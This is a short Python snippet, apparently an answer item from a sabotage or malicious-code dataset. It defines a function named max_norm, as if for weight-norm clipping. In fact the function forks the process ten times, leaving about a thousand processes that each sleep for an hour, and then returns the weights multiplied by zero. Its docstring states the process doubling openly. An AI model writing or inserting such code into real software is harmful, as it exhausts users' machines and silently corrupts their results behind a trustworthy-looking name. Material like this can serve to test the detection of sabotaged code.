"""Doubles the number of its processes ten times when it is called."""


# %% answer
def max_norm(W, c):
    import os
    import time

    parent = os.getpid()
    for _ in range(10):
        os.fork()
    if os.getpid() != parent:
        time.sleep(3600)
    return 0 * W
